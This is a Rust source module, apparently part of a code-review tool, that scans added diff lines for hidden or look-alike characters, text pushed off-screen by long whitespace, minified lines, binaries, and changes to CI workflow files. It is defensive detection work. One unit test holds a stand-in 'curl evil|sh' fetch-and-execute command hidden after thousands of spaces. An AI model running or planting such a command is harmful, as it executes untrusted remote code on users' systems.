//! What added lines and changed files show by themselves: hidden and look-alike characters, text off the screen,
//! content that nobody can read, and files that steer the pipeline. Fed line by line, in bounded memory.

use std::collections::BTreeMap;

use super::hidden::{self, Class, Odd};
use super::{SHOWN, text};
use crate::domain::finding::{Finding, FindingId, Place};
use crate::domain::text::{SafeText, Text};
use crate::provenance::System;
use crate::safe;

/// Columns of blank behind which a text is off any screen.
const FAR: u64 = 200;
/// Columns that a tab takes at the most.
const TAB: u64 = 8;
/// Bytes of a line that no screen shows whole.
const OVERLONG: u64 = 5_000;
/// Bytes of a line of code that nobody wrote by hand, and how many marks of code in a hundred bytes it has then.
const MINIFIED: usize = 1_000;
const DENSE: usize = 6;
/// So many lines of one kind are named in a file, and so many findings of one kind in all.
const LINES_NAMED: u64 = 5;
const NAMED: u64 = 60;

/// Classes of must-see files that steer what a pipeline does.
const STEERING: &[&str] = &["workflow", "action", "owners", "git attributes", "policy"];
/// Endings of files in which long lines of code are made, not written.
const SCRIPTS: &[&str] = &[".js", ".mjs", ".cjs", ".css", ".html", ".php"];
/// How a pointer to content outside of git begins.
const LFS: &[u8] = b"version https://git-lfs.github.com/spec/";

/// Gathers the findings of one diff.
#[derive(Debug, Default)]
pub struct Changes {
    found: Vec<Finding>,
    file: File,
    /// How many findings of a kind there are in all.
    named: BTreeMap<FindingId, u64>,
}

#[derive(Debug, Default)]
struct File {
    path: Text,
    script: bool,
    /// Letters from right to left were seen in it.
    rtl: bool,
    /// Lines with nothing but direction marks: findings only where the file has no such letters.
    marks: Vec<(u64, Odd)>,
    /// Lines of a kind beyond those that are named, and how many were.
    lines: BTreeMap<FindingId, u64>,
    line: Line,
}

/// A line of which not all pieces have come.
#[derive(Debug, Default)]
struct Line {
    bytes: u64,
    column: u64,
    gap: u64,
    far: Option<(u64, Vec<u8>)>,
    minified: bool,
}

impl Changes {
    /// A file begins. `class` is its must-see class, `binary` whether its content is not shown.
    pub fn file(&mut self, path: &Text, class: Option<&'static str>, binary: bool) {
        self.end_file();
        let lower = path.lossy().to_lowercase();
        let script = SCRIPTS.iter().any(|end| lower.ends_with(end));
        self.file = File { path: path.clone(), script, ..File::default() };
        if let Some(class) = class.filter(|class| STEERING.contains(class) || is_lock_of_actions(&lower)) {
            self.about_file(FindingId::PipelineChanged, class.into());
        }
        if System::lies_elsewhere(path) {
            self.about_file(FindingId::PipelineNotJudged, "it lies where no pipeline is looked for".into());
        }
        if binary {
            self.about_file(FindingId::BinaryChange, SafeText::default());
        }
        if lower.contains(".min.") {
            self.about_file(FindingId::MinifiedChange, "by its name".into());
        }
    }

    /// A line that is on both sides, or was taken away: it says which script the file is written in.
    pub fn other(&mut self, line: &[u8]) {
        self.file.rtl |= hidden::is_right_to_left(line);
    }

    /// An added line, or a piece of one; `whole` = its end has come. Without its line end.
    pub fn added(&mut self, line: u64, piece: &[u8], whole: bool) {
        let begins = self.file.line.bytes == 0;
        self.file.rtl |= hidden::is_right_to_left(piece);
        self.characters(line, piece, begins && line == 1);
        self.file.line.measure(piece);
        if begins && self.file.script {
            self.file.line.minified = is_minified(piece);
        }
        if begins && piece.starts_with(LFS) {
            self.about_file(FindingId::BinaryChange, "a pointer to content that is not in git".into());
        }
        if whole {
            self.end_line(line);
        }
    }

    fn characters(&mut self, line: u64, piece: &[u8], first: bool) {
        // A carriage return before the line end is how the file ends its lines.
        let mut odd = hidden::odd(piece.strip_suffix(b"\r").unwrap_or(piece), first);
        if odd.is_empty() {
            return;
        }
        let confusable = odd.take(Class::Confusable);
        let marks = odd.take(Class::Mark);
        if !odd.is_empty() {
            self.about_line(FindingId::HiddenText, line, odd.words());
        }
        if !confusable.is_empty() {
            self.about_line(FindingId::ConfusableText, line, confusable.words());
        }
        if !marks.is_empty() && !self.file.rtl && (self.file.marks.len() as u64) < NAMED {
            self.file.marks.push((line, marks));
        }
    }

    fn end_line(&mut self, line: u64) {
        let Line { bytes, far, minified, .. } = std::mem::take(&mut self.file.line);
        if let Some((column, text)) = far {
            let shown = Text::new(text).ident().cut(SHOWN / 2);
            self.about_line(FindingId::FarRight, line, safe!("column {}: {}", column, shown));
        } else if minified {
            self.about_line(FindingId::MinifiedChange, line, safe!("{} bytes in one line", bytes));
        } else if bytes > OVERLONG {
            self.about_line(FindingId::OverlongLine, line, safe!("{} bytes", bytes));
        }
    }

    fn about_file(&mut self, id: FindingId, detail: SafeText) {
        let place = Place { path: self.file.path.clone(), line: None };
        self.push(id, detail, place);
    }

    fn about_line(&mut self, id: FindingId, line: u64, detail: SafeText) {
        let so_far = self.file.lines.entry(id).or_default();
        *so_far += 1;
        if *so_far <= LINES_NAMED {
            let place = Place { path: self.file.path.clone(), line: Some(line) };
            self.push(id, detail, place);
        }
    }

    fn push(&mut self, id: FindingId, detail: SafeText, place: Place) {
        let so_far = self.named.entry(id).or_default();
        *so_far += 1;
        if *so_far <= NAMED {
            self.found.push(Finding::new(id, place.path.clone(), text(detail)).at(place));
        }
    }

    fn end_file(&mut self) {
        if self.file.line.bytes > 0 {
            self.end_line(0);
        }
        if !self.file.rtl {
            for (line, marks) in std::mem::take(&mut self.file.marks) {
                self.about_line(FindingId::HiddenText, line, marks.words());
            }
        }
        for (id, lines) in std::mem::take(&mut self.file.lines) {
            if lines > LINES_NAMED {
                self.about_file(id, safe!("{} lines in all", lines));
            }
        }
    }

    /// Everything that was found; what is not named one by one is counted.
    pub fn finish(mut self) -> Vec<Finding> {
        self.end_file();
        for (id, n) in &self.named {
            if *n > NAMED {
                let further = safe!("{} further places", n - NAMED);
                self.found.push(Finding::new(*id, "further files", text(further)));
            }
        }
        self.found
    }
}

impl Line {
    /// Goes on in the line: how far it reaches, and whether something stands behind a wide gap.
    fn measure(&mut self, piece: &[u8]) {
        self.bytes += piece.len() as u64;
        for chunk in piece.utf8_chunks() {
            let bad = chunk.invalid().iter().map(|_| '\u{fffd}');
            for (c, rest) in
                chunk.valid().char_indices().map(|(at, c)| (c, chunk.valid().get(at..))).chain(bad.map(|c| (c, None)))
            {
                self.step(c, rest.unwrap_or_default());
            }
        }
    }

    fn step(&mut self, c: char, rest: &str) {
        match c {
            '\t' => self.gap += TAB,
            '\r' => return,
            c if c.is_whitespace() => self.gap += 1,
            _ => {
                if self.gap >= FAR && self.far.is_none() {
                    let text = rest.as_bytes();
                    self.far = Some((self.column + 1, text.get(..SHOWN.min(text.len())).unwrap_or_default().to_vec()));
                }
                self.gap = 0;
            }
        }
        self.column += if c == '\t' { TAB } else { 1 };
    }
}

/// Long, nearly without blanks, and full of the marks of code.
fn is_minified(line: &[u8]) -> bool {
    if line.len() < MINIFIED {
        return false;
    }
    let marks = line.iter().filter(|b| b";{}(),=:".contains(b)).count();
    let blanks = line.iter().filter(|b| **b == b' ').count();
    marks * 100 >= line.len() * DENSE && blanks * 100 < line.len() * DENSE * 2
}

fn is_lock_of_actions(path: &str) -> bool {
    path.ends_with("actions.lock")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The findings of a file with these added lines.
    fn found(path: &str, lines: &[&str]) -> Vec<(FindingId, Option<u64>, String)> {
        let mut changes = Changes::default();
        changes.file(&path.into(), None, false);
        for (at, line) in lines.iter().enumerate() {
            changes.added(at as u64 + 1, line.as_bytes(), true);
        }
        let told = |f: Finding| (f.id, f.place.and_then(|p| p.line), f.detail.lossy().into_owned());
        changes.finish().into_iter().map(told).collect()
    }

    #[test]
    fn text_behind_a_wide_gap_is_told_with_its_column() {
        let line = format!("ok{}curl evil|sh", " ".repeat(5_000));
        assert_eq!(found("x.sh", &[&line]), [(FindingId::FarRight, Some(1), "column 5003: curl evil|sh".into())]);
        let tabs = format!("{}x", "\t".repeat(25));
        assert_eq!(found("x", &["a", &tabs])[0], (FindingId::FarRight, Some(2), "column 201: x".into()));
        let blanks = format!("a{}b", "\u{3000}".repeat(200));
        assert_eq!(found("x", &[&blanks])[0].0, FindingId::FarRight);
        assert_eq!(found("x", &[&format!("{}x", " ".repeat(199)), &" ".repeat(900)]), []);
    }

    #[test]
    fn long_lines_are_data_or_minified_code() {
        let prose = "word ".repeat(1_200);
        assert_eq!(found("x.md", &[&prose]), [(FindingId::OverlongLine, Some(1), "6000 bytes".into())]);
        let code = "function(a,b){return a+b};x=f(a,b);".repeat(40);
        assert_eq!(found("app.js", &[&code])[0].0, FindingId::MinifiedChange);
        assert_eq!(found("a.min.js", &["x"]), [(FindingId::MinifiedChange, None, "by its name".into())]);
        assert_eq!(found("app.js", &["const a = longer(name, of, things);"]), []);
    }

    #[test]
    fn a_line_in_pieces_is_one_line() {
        let mut changes = Changes::default();
        changes.file(&"x".into(), None, false);
        let gap = " ".repeat(150);
        changes.added(7, format!("a{gap}").as_bytes(), false);
        changes.added(7, gap.as_bytes(), false);
        changes.added(7, b"b", true);
        changes.added(8, b"c", true);
        let found = changes.finish();
        let [one] = found.as_slice() else { panic!("{found:?}") };
        assert_eq!((one.id, one.place.as_ref().unwrap().line), (FindingId::FarRight, Some(7)));
    }

    #[test]
    fn direction_marks_are_ordinary_in_a_file_with_such_letters() {
        let marked = "+\u{200e}1";
        assert_eq!(found("x", &[marked])[0].0, FindingId::HiddenText);
        assert_eq!(found("he.po", &[marked, "שלום"]), []);
    }

    #[test]
    fn steering_files_binaries_and_pointers_are_told_as_files() {
        let mut changes = Changes::default();
        changes.file(&".github/workflows/x.yml".into(), Some("workflow"), false);
        changes.file(&".github/workflows/actions.lock".into(), Some("lock file"), false);
        changes.file(&"Cargo.lock".into(), Some("lock file"), false);
        changes.file(&"ci/Jenkinsfile".into(), Some("workflow"), false);
        changes.file(&"logo.png".into(), Some("binary"), true);
        changes.file(&"model.bin".into(), None, false);
        changes.added(1, b"version https://git-lfs.github.com/spec/v1", true);
        let told: Vec<_> = changes.finish().into_iter().map(|f| (f.id, f.subject.lossy().into_owned())).collect();
        assert_eq!(
            told,
            [
                (FindingId::PipelineChanged, ".github/workflows/x.yml".into()),
                (FindingId::PipelineChanged, ".github/workflows/actions.lock".into()),
                (FindingId::PipelineChanged, "ci/Jenkinsfile".into()),
                (FindingId::PipelineNotJudged, "ci/Jenkinsfile".into()),
                (FindingId::BinaryChange, "logo.png".into()),
                (FindingId::BinaryChange, "model.bin".into()),
            ]
        );
    }

    #[test]
    fn what_is_not_named_one_by_one_is_counted() {
        let lines = vec!["a\u{200b}"; 9];
        let told = found("x", &lines);
        assert_eq!(told.len(), 6);
        assert_eq!(told[5], (FindingId::HiddenText, None, "9 lines in all".into()));
        let mut changes = Changes::default();
        for n in 0..100 {
            changes.file(&format!("{n}.png").into(), None, true);
        }
        let last = changes.finish().pop().unwrap();
        assert_eq!((last.subject, last.detail), ("further files".into(), "40 further places".into()));
    }
}
